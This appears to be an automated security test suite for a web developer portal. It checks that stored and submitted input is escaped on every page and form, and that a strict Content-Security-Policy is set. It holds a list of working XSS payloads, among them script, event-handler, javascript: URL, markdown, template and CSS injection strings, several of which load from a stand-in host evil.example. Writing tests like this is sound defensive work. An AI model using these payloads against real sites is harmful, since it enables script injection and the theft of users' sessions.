import type { UserRecord } from '../../src/domain/accounts/index.js';
import { openVisitor, startBrowser } from '../support/browser.js';
import { describeWith } from '../support/describe-with.js';
import { createProduct, createUser, PASSWORD } from '../support/factories.js';
import { dangersOf, parseMarkup } from '../support/markup.js';
import { PageClient } from '../support/page-client.js';
import { startTestPortal, type TestPortal } from '../support/test-portal.js';

const RUN = 'window.__xss=1';
/** Every one would run in a page that did not escape, or took links as they come (S66). */
const PAYLOADS: readonly string[] = [
  ...[`<script>${RUN}</script>`, `</title><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`],
  ...[`<ScRiPt src=//evil.example/x.js></ScRiPt>`, `<script/x>${RUN}</script`, `<<script>${RUN}//<</script>`],
  ...[`<img src=x onerror=${RUN}>`, `<svg onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`],
  ...[`<body onload=${RUN}>`, `<details open ontoggle=${RUN}>`, `<input autofocus onfocus=${RUN}>`],
  ...[`<iframe srcdoc="<script>parent.__xss=1</script>">`, `<object data="data:text/html,<script>${RUN}</script>">`],
  ...[
    `<math><a xlink:href="javascript:${RUN}">x</a></math>`,
    `<base href="//evil.example/">`,
    `<!--><svg onload=${RUN}>`,
  ],
  ...[`"><svg onload=${RUN}>`, `'><svg onload=${RUN}>`, `" onmouseover="${RUN}" x="`, `' onfocus='${RUN}' autofocus='`],
  ...[
    '` onmouseover=`' + RUN,
    ` onload=${RUN} `,
    `"style="background:url(//evil.example/x)`,
    `"></a><a href="javascript:${RUN}">x`,
  ],
  ...[
    `javascript:${RUN}`,
    `JaVaScRiPt:${RUN}`,
    `java\tscript:${RUN}`,
    `\u0001javascript:${RUN}`,
    `javascript&colon;${RUN}`,
  ],
  ...[`data:text/html,<script>${RUN}</script>`, `vbscript:msgbox(1)`, `//evil.example/x`, `/\\evil.example/x`],
  ...[
    `[x](javascript:${RUN})`,
    `[x](<java\nscript:${RUN}>)`,
    `[x](data:text/html;base64,PHNjcmlwdD4=)`,
    `<javascript:${RUN}>`,
  ],
  ...[`![x](x"onerror="${RUN})`, `[x]: javascript:${RUN}\n\n[x]`, `[x](https://ok.example "\\" onclick=\\"${RUN}")`],
  ...['```"><script>' + RUN + '</script>\nx\n```', `<a href="x" onclick="${RUN}">x</a>`, `[x](//evil.example/x)`],
  ...['{{{csrf}}}', '{{constructor.constructor "return 1"}}', '{{#with this}}{{csrf}}{{/with}}', '{{> theme::header}}'],
  ...[`\u202e<script>${RUN}</script>\u202c`, `&lt;script&gt;${RUN}&lt;/script&gt;`, `&#60;svg onload=${RUN}&#62;`],
  ...[`#fff}body{background:url(//evil.example/x)}`, `\uff1cscript\uff1e${RUN}`, `</style><script>${RUN}</script>`],
];

let test: TestPortal;
let user: UserRecord;
let page: PageClient;
let count = 0;

beforeAll(async () => {
  const config = { limits: { ip: { requests: { max: 100_000 } } }, accounts: { customAttributes: ['company'] } };
  test = await startTestPortal({ config });
  user = await createUser(test);
  page = new PageClient(test.client);
  await page.submit('/portal/login', { email: user.email, password: PASSWORD });
});
afterAll(() => test.stop());

/** Writes a payload into everything that pages show; past the rules, as an operator's SQL or an older release could. */
async function store(payload: string): Promise<string> {
  count += 1;
  const slug = `hostile-${count}`;
  const { catalog, apps } = test.portal.services;
  const texts = { name: payload, shortDescription: payload, description: payload };
  const translations = { ar: texts };
  await catalog.categories.create({ slug, ...texts, translations });
  const spec = {
    openapi: '3.0.3',
    info: { title: payload, version: payload, description: payload },
    servers: [{ url: payload }],
    paths: {
      [`/${payload}`]: { get: { summary: payload, tags: [payload], responses: { 200: { description: 'x' } } } },
    },
  };
  const product = {
    slug,
    ...texts,
    translations,
    tags: [payload.slice(0, 50)],
    categories: [slug],
    thumbnailUrl: payload,
  };
  await createProduct(test, product, JSON.stringify(spec));
  const by = { type: 'developer', id: user.id } as const;
  await apps.apps.create(user, { name: slug, displayName: payload, description: payload, products: [slug] }, by);
  const now = test.clock.now();
  const write = (sql: string, ...values: (string | number | boolean | Date)[]) =>
    test.portal.database.execute(sql, values);
  await write('UPDATE portal_apps SET callback_url = ?, status_reason = ? WHERE name = ?', payload, payload, slug);
  await write('UPDATE portal_credentials SET status_reason = ?', payload);
  await write('UPDATE portal_credential_products SET status_reason = ?', payload);
  await write('UPDATE portal_users SET first_name = ?, last_name = ?, custom_attributes = ? WHERE id = ?',
    payload, payload, JSON.stringify({ company: payload }), user.id); // prettier-ignore
  await write('UPDATE portal_sessions SET user_agent = ?', payload);
  for (const menu of ['header', 'footer']) {
    await write('DELETE FROM portal_menus WHERE slug = ?', menu);
    const insert = 'INSERT INTO portal_menus (slug, name, created_at, updated_at) VALUES (?, ?, ?, ?)';
    const { insertId } = await write(insert, menu, payload, now, now);
    for (const [column, address] of [
      ['url', payload],
      ['route', payload],
    ] as const) {
      await write(
        `INSERT INTO portal_menu_items (menu_id, position, label, ${column}, visibility, created_at, updated_at)
         VALUES (?, 1, ?, ?, 'everyone', ?, ?)`,
        ...[insertId, payload, address, now, now],
      );
    }
  }
  await write("DELETE FROM portal_settings WHERE setting_key LIKE 'theme.%'");
  for (const key of ['name', 'tagline', 'brand_color', 'logo_url']) {
    await write(
      `INSERT INTO portal_settings (setting_key, value, type, label, setting_group, is_public, created_at, updated_at)
       VALUES (?, ?, 'string', 'x', 'theme', ?, ?, ?)`,
      ...[`theme.${key}`, payload, true, now, now],
    );
  }
  // The brand is kept for a second.
  test.clock.advance(2);
  return slug;
}

const pagesOf = (slug: string, payload: string) => {
  const text = encodeURIComponent(payload);
  return [
    ...['', `/products?category=${slug}`, `/products/${slug}`, `/products/${slug}/spec`, '/dashboard', '/apps'],
    ...[`/apps/${slug}`, '/apps/create', '/profile', `/products?q=${text}`, `/products?tag=${text}`, `/${text}`],
    ...[`/apps/create?product=${text}`, `/products/${slug}?locale=ar`, `/products?category=${slug}&locale=ar`],
  ];
};

describe('pages made of hostile texts (S66)', () => {
  it.each(PAYLOADS)('show them as text: %j', async (payload) => {
    const slug = await store(payload);
    for (const path of pagesOf(slug, payload)) {
      const { html, status, headers } = await page.get(`/portal${path}`);
      const markup = parseMarkup(html);
      expect([path, status, dangersOf(markup)]).toEqual([
        path,
        path === `/${encodeURIComponent(payload)}` ? 404 : 200,
        [],
      ]);
      expect(headers.get('content-security-policy')).toMatch(
        /^default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:(?: https?:\/\/[^\s;,']+)?; connect-src 'self'; form-action 'self'; object-src 'none'; base-uri 'none'; frame-ancestors 'none'$/,
      );
      // The name of the portal stands in each page, and reads as it was written.
      const times = markup.text.split(payload).length - 1;
      expect([path, times]).toEqual([path, expect.any(Number)]);
      expect(times).toBeGreaterThan(path.endsWith(`s/${slug}`) ? 8 : 0);
    }
    const { html: css } = await page.get('/portal/assets/brand.css');
    expect(css.replace(/#[0-9a-f]{6}/g, '#')).toBe(BRAND_SHEET);
  });

  it('show what was typed into forms as text', async () => {
    for (const payload of PAYLOADS) {
      const visitor = new PageClient(test.client);
      visitor.cookies.set('portal-flash', encodeURIComponent(payload));
      visitor.cookies.set('portal-scheme', encodeURIComponent(payload));
      const register = { first_name: payload, last_name: payload, email: payload, return_to: payload };
      const app = {
        name: payload,
        display_name: payload,
        description: payload,
        callback_url: payload,
        products: payload,
      };
      const answers = [
        await visitor.submit('/portal/register', register),
        await visitor.submit('/portal/login', { email: payload, password: payload, return_to: payload }),
        await page.submit('/portal/apps/create', app, { action: '/portal/apps' }),
        await visitor.get(`/portal/login?return_to=${encodeURIComponent(payload)}`),
        await visitor.get(`/portal/reset-password/${encodeURIComponent(payload)}`),
      ];
      for (const { html } of answers) expect([payload, dangersOf(parseMarkup(html))]).toEqual([payload, []]);
    }
  });

  it('would be found out: the check sees what it is for', () => {
    const escaped = (text: string) => text.replace(/[&<>"']/g, (character) => `&#${character.charCodeAt(0)};`);
    const raw = PAYLOADS.filter((payload) => dangersOf(parseMarkup(`<p>${payload}</p>`)).length > 0);
    const links = PAYLOADS.filter(
      (payload) => dangersOf(parseMarkup(`<a href="${escaped(payload)}">x</a>`)).length > 0,
    );
    expect(raw.length).toBeGreaterThan(25);
    expect(links).toEqual(expect.arrayContaining([`javascript:${RUN}`, `java\tscript:${RUN}`, '//evil.example/x']));
  });
});

const BRAND_SHEET = [
  ':root{--brand:#;--on-brand:#}',
  '@media (prefers-color-scheme:dark){:root:not([data-scheme=light]){--brand:#;--on-brand:#}}',
  ':root[data-scheme=dark]{--brand:#;--on-brand:#}',
].join('\n');

describeWith('chromium', 'hostile texts in a real browser', () => {
  it('run nothing, ask for nothing elsewhere and open no dialog', async () => {
    const browser = await startBrowser();
    try {
      const visitor = await openVisitor(browser, test.client.url);
      const { page: tab } = visitor;
      await tab.goto('/portal/login');
      await tab.fill('main [name="email"]', user.email);
      await tab.fill('main [name="password"]', PASSWORD);
      await tab.click('main form button.button-main');
      for (const payload of PAYLOADS.filter((_payload, index) => index % 6 === 0)) {
        const slug = await store(payload);
        for (const path of ['', `/products/${slug}`, `/products/${slug}/spec`, `/apps/${slug}`, '/profile']) {
          await tab.goto(`/portal${path}`);
          expect([payload, path, await tab.evaluate('window.__xss')]).toEqual([payload, path, undefined]);
        }
      }
      expect([visitor.dialogs, visitor.faults]).toEqual([[], []]);
    } finally {
      await browser.close();
    }
  });
});
